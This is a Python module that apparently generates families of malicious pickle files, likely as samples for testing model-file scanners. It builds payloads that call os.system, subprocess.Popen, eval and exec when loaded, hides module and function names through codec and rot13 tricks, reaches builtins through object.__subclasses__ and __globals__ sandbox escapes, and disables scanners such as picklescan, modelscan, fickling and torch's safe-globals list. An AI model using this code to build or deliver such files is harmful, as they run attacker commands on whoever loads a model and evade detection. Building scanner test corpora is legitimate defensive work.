"""name_families - attacks that lie in what is named and called, and the plain ones; all streams together."""

from __future__ import annotations

import random
import struct
from typing import Any

import invented
from arguments import Arguments
from assembler import (
    Build,
    Call,
    Name,
    New,
    Raw,
    Style,
    any_style,
    assemble,
    attribute,
    emit,
    finish,
)
from callables import Payload, from_expression, inner_pickle
from calling import call, made, shell
from fillers import filler_value
from nesting_families import FAMILIES as NESTING_FAMILIES
from opcode_families import FAMILIES as OPCODE_FAMILIES
from opcode_families import Maker, named
from resolver_families import FAMILIES as RESOLVER_FAMILIES


def o8(rng: random.Random, one: Payload) -> bytes:
    callee, arguments = named(rng, one)
    owner = Name(
        *rng.choice(
            [
                ("string", "Template"),
                ("argparse", "Namespace"),
                ("torch.nn", "Linear"),
                ("logging", "Logger"),
                ("numpy", "ndarray"),
            ]
        )
    )
    hook = rng.choice(
        ["__setstate__", "__call__", "__reduce__", "__getattr__", "forward", "__init__", "__eq__"]
    )
    patched = Build(owner, (None, {hook: callee}))
    if hook == "__setstate__":
        return made(rng, [patched, Build(New(owner, ()), arguments[0] if arguments else None)], 2)
    return made(rng, [patched, Call(owner, arguments)])


def o9(rng: random.Random, one: Payload) -> bytes:
    first, second = rng.choice(
        [("size", "shape"), ("ndim", "shape"), ("ravel", "size"), ("mean", "shape")]
    )
    spy = Build(Name("numpy", first), (None, {"shape": Name("numpy", "__builtins__")}))
    opened = Call(Name("numpy", second), (spy,))
    return made(
        rng,
        Call(
            attribute(opened, rng.choice(["get", "__getitem__"])), (rng.choice(["eval", "exec"]),)
        ),
    )


def computed(rng: random.Random, word: str) -> Any:
    """A word that only a call gives."""
    cut = rng.randrange(1, len(word)) if len(word) > 1 else 1
    ways: list[Any] = [
        call("builtins", "str", word.encode(), "utf-8"),
        call("_codecs", "decode", word.encode(), "latin1"),
        call("builtins", "str.join", "", [word[:cut], word[cut:]]),
        call("operator", "add", word[:cut], word[cut:]),
        call("builtins", "str.replace", word + "@", "@", ""),
        Call(attribute(word.upper(), "lower"), ()),
        call(
            "builtins", "getattr", call("builtins", "bytes.fromhex", word.encode().hex()), "decode"
        ),
        call("codecs", "decode", Arguments(rng).rot13(word), "rot13"),
        call("operator", "getitem", word[::-1], call("builtins", "slice", None, None, -1)),
        call("builtins", "chr", 111),
    ]
    return rng.choice(ways)


def o10(rng: random.Random, one: Payload) -> bytes:
    callee, arguments = named(rng, one)
    style = Style(4, rng.random() < 0.5, rng.random() < 0.5)
    which = rng.randrange(3)
    module = computed(rng, callee.module) if which != 1 else callee.module
    path = computed(rng, callee.path) if which else callee.path
    ops = [*emit(module, style), *emit(path, style), b"\x93", *emit(arguments, style), b"R"]
    return finish(ops, 4, style.framed)


def o22(rng: random.Random, one: Payload) -> bytes:
    holders = [
        "shutil",
        "torch.serialization",
        "pathlib",
        "logging",
        "tempfile",
        "glob",
        "zipfile",
        "numpy.f2py",
    ]
    holders += ["sklearn.utils", "transformers.utils", "invented", "random", "torch._utils"]
    path = rng.choice(
        ["os.system", "os.popen", "sys.modules", "subprocess.Popen", "_os.system", "os.execv"]
    )
    style = any_style(rng)
    style.protocol = rng.choice([4, 4, 5])
    return assemble(Call(Name(rng.choice(holders), path), (shell(rng),)), style)


def o23(rng: random.Random, one: Payload) -> bytes:
    text = Arguments(rng)
    old = [("__builtin__", "eval", text.expr()), ("__builtin__", "execfile", text.path())]
    old += [("commands", "getoutput", text.shell()), ("commands", "getstatusoutput", text.shell())]
    old += [
        ("__builtin__", "compile", text.code()),
        ("cPickle", "loads", inner_pickle(rng)),
        ("os", "popen2", text.shell()),
    ]
    old += [
        ("urllib", "urlopen", text.url()),
        ("urllib2", "urlopen", text.url()),
        ("popen2", "popen3", text.shell()),
    ]
    old += [
        ("__builtin__", "file", text.path()),
        ("__builtin__", "input", text.expr()),
        ("UserDict", "exec", text.code()),
    ]
    module, path, argument = rng.choice(old)
    style = any_style(rng)
    style.protocol, style.name = rng.choice([0, 0, 1, 2]), "plain"
    return assemble(call(module, path, argument), style)


def o24(rng: random.Random, one: Payload) -> bytes:
    classes = Call(Name("builtins", "object.__subclasses__"), ())
    number = rng.randrange(300)
    picked = Call(attribute(classes, "__getitem__"), (number,))
    text = Arguments(rng)
    ways: list[Any] = [
        Call(
            attribute(attribute(attribute(picked, "__init__"), "__globals__"), "get"), ("system",)
        ),
        attribute(attribute(picked, "__init__"), "__builtins__"),
        Call(Name("builtins", "print.__self__.eval"), (text.expr(),)),
        Call(Name("shutil", "copy.__globals__.get"), ("os",)),
        Call(
            attribute(
                attribute(attribute(Name("builtins", "print"), "__class__"), "__base__"),
                "__subclasses__",
            ),
            (),
        ),
        Call(Name("collections", "namedtuple.__globals__.__getitem__"), ("_sys",)),
        Call(attribute(attribute(Name("torch", "load"), "__globals__"), "get"), ("os",)),
        Call(attribute(attribute(attribute((), "__class__"), "__mro__"), "__getitem__"), (1,)),
    ]
    return made(rng, rng.choice(ways), 4)


def o31(rng: random.Random, one: Payload) -> bytes:
    switches: list[Any] = [
        Call(Name("picklescan.scanner", "_unsafe_globals.clear"), ()),
        call("modelscan.settings", "DEFAULT_SETTINGS.clear"),
        call("fickling.hook", "remove_hook"),
        call("fickling.hook", "deactivate_safe_ml_environment"),
        Build(Name("picklescan.scanner", "scan_pickle_bytes"), (None, {"__code__": None})),
        call("torch.serialization", "add_safe_globals", [Name("os", "system")]),
        Build(
            Name("torch._weights_only_unpickler", "_get_allowed_globals"),
            (None, {"__wrapped__": 1}),
        ),
        call("sys", "modules.pop", "modelscan"),
        call("modelaudit", "scanners.clear"),
    ]
    return made(rng, rng.choice(switches), 4)


def o32(rng: random.Random, one: Payload) -> bytes:
    count = rng.randrange(24, 90)
    ways = [
        b"]" + b"2\x86" * count + b".",
        b"})" + b"2\x86" * count + b"Ns.",
        b"Nr" + struct.pack("<I", rng.randrange(1 << 28, 1 << 32)) + b".",
        b"Np" + b"9" * rng.randrange(8, 12) + b"\n.",
        b"\x80\x04\x8f\x94()" + b"2\x86" * count + b"\x90.",
    ]
    return rng.choice(ways)


def plain_gadget(rng: random.Random, one: Payload) -> bytes:
    return made(rng, one.node)


def two_calls(rng: random.Random, one: Payload) -> bytes:
    other = from_expression(rng)
    node: Any = rng.choice(
        [
            [one.node, other.node],
            {"a": one.node, "b": filler_value(rng)},
            (filler_value(rng), one.node),
        ]
    )
    return made(rng, node)


def raw_state(rng: random.Random, one: Payload) -> bytes:
    """In the state of an object that looks like any other."""
    cls = Name(invented.module(rng), invented.class_name(rng))
    state = {invented.opaque(rng) + "_": filler_value(rng), "weights": one.node, "name": "m"}
    fresh = rng.choice(
        [
            New(cls, ()),
            Call(cls, ()),
            Call(Name("copyreg", "_reconstructor"), (cls, Name("builtins", "object"), None)),
        ]
    )
    return made(
        rng,
        Build(fresh, state if rng.random() < 0.6 else Raw(tuple(emit(one.node, Style(2, False))))),
    )


FAMILIES: dict[str, Maker] = {
    **OPCODE_FAMILIES,
    **NESTING_FAMILIES,
    **RESOLVER_FAMILIES,
    **{n.upper(): make for n, make in list(globals().items()) if n[:1] == "o" and n[1:].isdigit()},
    "gadget": plain_gadget,
    "gadgets": two_calls,
    "in-state": raw_state,
}
